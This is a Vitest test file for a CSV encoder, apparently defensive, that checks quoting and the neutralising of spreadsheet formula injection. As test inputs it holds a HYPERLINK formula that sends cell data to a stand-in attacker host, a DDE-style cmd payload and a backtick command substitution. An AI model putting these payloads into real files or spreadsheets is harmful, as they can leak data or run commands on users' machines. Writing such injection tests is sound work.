import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from './csv.js';

describe('csv', () => {
  it('quotes fields with commas, quotes and line breaks, doubling quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(3)).toBe('3');
    expect(csvField({ a: 1 })).toBe('"{""a"":1}"');
  });

  it('has a header row and CRLF line ends', () => {
    expect(toCsv(['x', 'y'], [[1, 'host | `echo "a,b"`']])).toBe('x,y\r\n1,"host | `echo ""a,b""`"\r\n');
  });

  it('neutralises text a spreadsheet would run as a formula, with a leading single quote', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"');
    expect(csvField('+1+cmd|\' /C calc\'!A0')).toBe("'+1+cmd|' /C calc'!A0");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(1)')).toBe("'@SUM(1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    expect(toCsv(['principal'], [['=cmd']])).toBe("principal\r\n'=cmd\r\n");
  });

  it('leaves numbers and text that only contains those characters as they are', () => {
    expect(csvField(-1)).toBe('-1');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('user@example')).toBe('user@example');
    expect(csvField(' =1')).toBe(' =1');
  });
});
